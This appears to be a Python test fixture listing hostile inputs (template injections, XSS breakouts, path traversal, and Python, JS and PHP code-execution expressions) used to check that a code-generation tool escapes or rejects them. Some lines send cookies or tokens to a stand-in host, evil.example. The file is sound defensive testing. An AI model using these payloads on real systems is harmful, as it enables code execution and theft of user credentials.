"""Hostile answers, one list per kind of answer, each value with a readable id.

A marker file named PWNED appears only if a value ran as code somewhere (a template engine, the
shell, an import); the sandbox looks for it everywhere a process could have written it.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MARKER = "PWNED"


@dataclass(frozen=True)
class Value:
    id: str
    text: str


API_KEYS = (
    Value("jinja-expression", "{{ cycler.__init__.__globals__.os.popen('touch PWNED') }}"),
    Value("html-breakout", '"><img src=x onerror=alert(1)>'),
    Value(
        "ejs-scriptlet",
        "<%= global.process.mainModule.require('child_process').execSync('touch PWNED') %>",
    ),
    Value(
        "pug-interpolation",
        "#{process.mainModule.require('child_process').execSync('touch PWNED')}",
    ),
    Value("single-quote-attribute", "' onload='x"),
    Value("newline", "pk_live_1\npk_live_2"),
    Value("php-tag", "<?php touch('PWNED'); ?>"),
    Value(
        "nunjucks-constructor",
        "{{ range.constructor(\"return global.process.mainModule.require('child_process')"
        ".execSync('touch PWNED')\")() }}",
    ),
    Value("django-debug-tag", "{% debug %}{{ request.COOKIES }}"),
    Value("handlebars-helper", "{{#with this}}{{lookup . 'constructor'}}{{/with}}"),
    Value("js-string-breakout", "pk\"+require('child_process').execSync('touch PWNED')+\""),
    Value("php-string-breakout", "pk'.system('touch PWNED').'"),
    Value("backslash-quotes", "pk\\'\\\"\\"),
)

API_PREFIXES = (
    Value("dot-dot", "../../x"),
    Value("python-quote-breakout", "/api/'+__import__('os').system('touch PWNED')+'"),
    Value("double-quote-breakout", '/api/"+__import__("os").system("touch PWNED")+"'),
    Value("script-tag", "/a/<script>"),
    Value("inner-dot-dot", "/a/../../b"),
    Value("double-slash", "//"),
    Value("space", "/a b"),
    # Docstrings at module, function and method level: the code after the break is indented to
    # fit, so that without escaping the module would still parse.
    *(
        Value(
            f"docstring-breakout-{what}",
            f'/a"""\n{indent}__import__("os").system("touch PWNED")\n{indent}"""',
        )
        for what, indent in (("module", ""), ("function", " " * 4), ("method", " " * 8))
    ),
    Value("js-comment-breakout", "/a*/require('child_process').execSync('touch PWNED')/*"),
    Value("line-comment-breakout", "/a\nrequire('child_process').execSync('touch PWNED');//x"),
)

SPA_TOKENS = (
    Value("dynamic-import", '(await import("child_process")).execSync("touch PWNED")'),
    Value("exfiltrate", 'fetch("https://evil.example/?c=" + document.cookie)'),
    Value(
        "statement-breakout", 'localStorage.getItem("access_token"); fetch("https://evil.example")'
    ),
    Value("function-breakout", 'null}; fetch("https://evil.example"); {'),
    Value("script-close", '"</script><script>alert(1)</script>"'),
    Value("eval", 'eval(localStorage.getItem("access_token"))'),
    Value("newline", 'localStorage.getItem("access_token")\nfetch("https://evil.example")'),
    # A storage read the grammar admits, its key hostile: it must stay the key.
    Value("key-script-close", 'localStorage.getItem("</script><script>alert(1)</script>")'),
    Value(
        "key-quote-breakout",
        'sessionStorage.getItem("a\\"); fetch(\\"https://evil.example\\"); (\\"")',
    ),
)

# Expressions: the attacks of each language, `{user}` being the stack's signed-in user.
PYTHON_EXPRS = (
    Value("globals-escape", "{user}.__class__.__init__.__globals__['os'].system('touch PWNED')"),
    Value("import-call", "__import__('os').system('touch PWNED')"),
    Value("getattr-dunder", "getattr(getattr({user}, '__class__'), '__init__')"),
    Value("lambda", "(lambda: __import__('os').system('touch PWNED'))()"),
    Value("format-dunder", "'{{0.__class__.__init__.__globals__}}'.format({user})"),
    Value("call-with-arguments", "{user}.email.replace('a', 'b')"),
    Value("walrus", "(x := {user}.email)"),
    Value("request-args", "request.args['email']"),
    Value("request-get", "request.GET['email']"),
    Value("request-headers", "request.headers['X-Email']"),
    Value("request-cookies", "request.cookies['email']"),
    Value("statement", "{user}.email\nimport os"),
)
JS_EXPRS = (
    Value("dynamic-import", '(await import("child_process")).execSync("touch PWNED")'),
    Value(
        "constructor",
        "{user}.constructor.constructor(\"return process.mainModule.require('child_process')"
        ".execSync('touch PWNED')\")()",
    ),
    Value("require", 'require("child_process").execSync("touch PWNED").toString()'),
    Value("req-query", "req.query.email"),
    Value("req-body", "req.body.email"),
    Value("req-headers", 'req.headers["x-email"]'),
    Value("req-cookies", "req.cookies.email"),
    Value("template-literal", "`${{require('child_process').execSync('touch PWNED')}}`"),
    Value("sequence", '{user}.email, require("child_process").execSync("touch PWNED")'),
    Value("proto", "{user}.__proto__.polluted"),
    Value("call-with-arguments", '{user}.email.concat("@evil.example")'),
)
PHP_EXPRS = (
    Value("system", 'system("touch PWNED")'),
    Value("php-input", 'file_get_contents("php://input")'),
    Value("get", '$_GET["email"]'),
    Value("post", '$_POST["email"]'),
    Value("cookie", '$_COOKIE["email"]'),
    Value("server", '$_SERVER["HTTP_X_EMAIL"]'),
    Value("request", '$_REQUEST["email"]'),
    Value("backtick", "`touch PWNED`"),
    Value("concat-shell", '{user}->user_email . shell_exec("touch PWNED")'),
    Value("variable-variable", '${{"_GET"}}["email"]'),
    Value("statement", '{user}->user_email; touch("PWNED")'),
    Value("include", 'include "php://input"'),
)
EXPRS = {"python": PYTHON_EXPRS, "javascript": JS_EXPRS, "php": PHP_EXPRS}
EXPR_FLAGS = ("--email-expr", "--name-expr", "--id-expr")

# Answers that name places: built from the sandbox (its outside directory, its project copy).
Place = Callable[[Path, Path], str]
"""(project root, outside directory) -> the answer."""


@dataclass(frozen=True)
class PlaceValue:
    id: str
    make: Place
    stacks: tuple[str, ...] = ()
    """Well-formed but wrong: only the stacks that read this answer can refuse it (empty: any
    stack, as no grammar admits the value)."""


APPS = (
    PlaceValue("parent-dir", lambda root, out: "../outside"),
    PlaceValue("absolute-outside", lambda root, out: str(out)),
    PlaceValue("python-code", lambda root, out: "__import__('os').system('touch PWNED')"),
    PlaceValue("shell", lambda root, out: "$(touch PWNED)"),
)
SETTINGS = (
    PlaceValue("python-code", lambda root, out: "__import__('os').system('touch PWNED')"),
    PlaceValue("parent-dir", lambda root, out: "../outside/settings"),
    PlaceValue("absolute-outside", lambda root, out: str(out / "settings.py")),
    PlaceValue("stdlib-module", lambda root, out: "os", ("django",)),
)
USER_DEPENDENCIES = (
    PlaceValue(
        "python-code",
        lambda root, out: "app.deps:get_current_user(); __import__('os').system('touch PWNED')",
    ),
    PlaceValue("stdlib-function", lambda root, out: "os:system", ("fastapi",)),
    PlaceValue("builtins-eval", lambda root, out: "builtins:eval", ("fastapi",)),
    PlaceValue("outside-module", lambda root, out: f"{out / 'deps.py'}:get_current_user"),
)
